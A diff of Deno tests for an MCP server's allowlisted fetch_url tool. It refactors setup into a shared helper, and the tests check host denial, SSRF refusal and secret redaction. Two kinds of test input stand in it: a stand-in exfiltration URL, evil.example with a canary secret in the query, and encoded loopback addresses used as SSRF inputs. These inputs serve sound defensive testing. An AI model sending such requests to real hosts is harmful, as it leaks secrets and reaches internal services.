@@ -23,12 +23,29 @@ function localEnv(port: number): Record<string, string> {
   return { EGRESS_ALLOW_HOSTS: `http://localhost:${port}`, EGRESS_ALLOW_PRIVATE: "localhost" };
 }
 
-Deno.test("mcp fetch_url returns status, body and byte count of an allowlisted local server", async () => {
-  await using project = await scratch();
-  const dir = project.dir;
-  await using server = serverFixture(() => new Response("zen of the allowlist"));
+/**
+ * A scratch project, a recording server that answers with `answer`, and an MCP
+ * session with only the fetch tool, allowed to reach that server unless `env`
+ * says otherwise; all closed and removed at the end of the scope.
+ */
+async function fetchSession(
+  answer: Parameters<typeof startRecordingServer>[0],
+  env: (port: number) => Record<string, string> = localEnv,
+) {
+  await using stack = new AsyncDisposableStack();
+  const project = stack.use(await scratch());
+  const server = stack.use(serverFixture(answer));
   const port = Number(new URL(server.url).port);
-  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
+  const mcp = stack.use(
+    await startMcp({ cwd: project.dir, args: ["--tools", "fetch"], env: env(port) }),
+  );
+  const owned = stack.move();
+  return { server, port, mcp, [Symbol.asyncDispose]: () => owned.disposeAsync() };
+}
+
+Deno.test("mcp fetch_url returns status, body and byte count of an allowlisted local server", async () => {
+  await using session = await fetchSession(() => new Response("zen of the allowlist"));
+  const { server, port, mcp } = session;
   const result = await mcp.callOk("fetch_url", { url: `http://localhost:${port}/zen` });
   assert.equal(result.ok, true);
   assert.equal(result.status, 200);
@@ -41,11 +58,8 @@ Deno.test("mcp fetch_url returns status, body and byte count of an allowlisted l
 });
 
 Deno.test("mcp fetch_url reports a non-2xx answer as a result with ok=false, not a tool error", async () => {
-  await using project = await scratch();
-  const dir = project.dir;
-  await using server = serverFixture(() => new Response("rate limited", { status: 429 }));
-  const port = Number(new URL(server.url).port);
-  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
+  await using session = await fetchSession(() => new Response("rate limited", { status: 429 }));
+  const { port, mcp } = session;
   const result = await mcp.call("fetch_url", { url: `http://localhost:${port}/` });
   assert.notEqual(result.isError, true);
   const content = result.structuredContent as Record<string, unknown>;
@@ -55,11 +69,8 @@ Deno.test("mcp fetch_url reports a non-2xx answer as a result with ok=false, not
 });
 
 Deno.test("mcp fetch_url cuts the body at max_bytes and says so", async () => {
-  await using project = await scratch();
-  const dir = project.dir;
-  await using server = serverFixture(() => new Response("y".repeat(5000)));
-  const port = Number(new URL(server.url).port);
-  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
+  await using session = await fetchSession(() => new Response("y".repeat(5000)));
+  const { port, mcp } = session;
   const result = await mcp.callOk("fetch_url", {
     url: `http://localhost:${port}/`,
     max_bytes: 100,
@@ -69,18 +80,11 @@ Deno.test("mcp fetch_url cuts the body at max_bytes and says so", async () => {
 });
 
 Deno.test("mcp fetch_url denies an unlisted host with a tool error naming it and the allowlist, no request", async () => {
-  await using project = await scratch();
-  const dir = project.dir;
-  await using server = serverFixture(() => new Response("must not be fetched"));
-  const port = Number(new URL(server.url).port);
-  await using mcp = await startMcp({
-    cwd: dir,
-    args: ["--tools", "fetch"],
-    env: {
-      EGRESS_ALLOW_HOSTS: "api.github.com,api.weather.gov",
-      EGRESS_ALLOW_PRIVATE: "localhost",
-    },
-  });
+  await using session = await fetchSession(() => new Response("must not be fetched"), () => ({
+    EGRESS_ALLOW_HOSTS: "api.github.com,api.weather.gov",
+    EGRESS_ALLOW_PRIVATE: "localhost",
+  }));
+  const { server, port, mcp } = session;
   const result = await mcp.call("fetch_url", { url: `http://localhost:${port}/` });
   assert.equal(result.isError, true);
   assert.match(
@@ -91,11 +95,8 @@ Deno.test("mcp fetch_url denies an unlisted host with a tool error naming it and
 });
 
 Deno.test("mcp fetch_url refuses SSRF forms of a loopback address and requests nothing", async () => {
-  await using project = await scratch();
-  const dir = project.dir;
-  await using server = serverFixture(() => new Response("internal data"));
-  const port = Number(new URL(server.url).port);
-  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
+  await using session = await fetchSession(() => new Response("internal data"));
+  const { server, port, mcp } = session;
   const forms = [
     `http://127.0.0.1:${port}/`,
     `http://2130706433:${port}/`,
@@ -138,13 +139,10 @@ Deno.test("mcp fetch_url refuses a redirect to an unlisted host and never reache
 });
 
 Deno.test("mcp fetch_url never shows a secret hookgate knows, in a result, an error or stderr", async () => {
-  await using project = await scratch();
-  const dir = project.dir;
-  await using server = serverFixture(() =>
+  await using session = await fetchSession(() =>
     new Response(`leaked ${CANARY} and Authorization: Bearer ${CANARY}`)
   );
-  const port = Number(new URL(server.url).port);
-  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
+  const { server, port, mcp } = session;
   const fetched = await mcp.call("fetch_url", { url: `http://localhost:${port}/` });
   const denied = await mcp.call("fetch_url", { url: `https://evil.example/?q=${CANARY}` });
   const malformed = await mcp.call("fetch_url", { url: 42, note: CANARY });
@@ -161,16 +159,10 @@ Deno.test("mcp fetch_url never shows a secret hookgate knows, in a result, an er
 });
 
 Deno.test("mcp fetch_url sends a POST with the caller's headers and body", async () => {
-  await using project = await scratch();
-  await using server = serverFixture((request) =>
+  await using session = await fetchSession((request) =>
     new Response(`${request.method} ${new TextDecoder().decode(request.body)}`)
   );
-  const port = Number(new URL(server.url).port);
-  await using mcp = await startMcp({
-    cwd: project.dir,
-    args: ["--tools", "fetch"],
-    env: localEnv(port),
-  });
+  const { server, port, mcp } = session;
   const result = await mcp.callOk("fetch_url", {
     url: `http://localhost:${port}/items`,
     method: "POST",
@@ -185,14 +177,8 @@ Deno.test("mcp fetch_url sends a POST with the caller's headers and body", async
 });
 
 Deno.test("mcp fetch_url refuses a Host header, sending nothing", async () => {
-  await using project = await scratch();
-  await using server = serverFixture(() => new Response("must not be fetched"));
-  const port = Number(new URL(server.url).port);
-  await using mcp = await startMcp({
-    cwd: project.dir,
-    args: ["--tools", "fetch"],
-    env: localEnv(port),
-  });
+  await using session = await fetchSession(() => new Response("must not be fetched"));
+  const { server, port, mcp } = session;
   const result = await mcp.call("fetch_url", {
     url: `http://localhost:${port}/`,
     headers: { Host: "internal.example" },
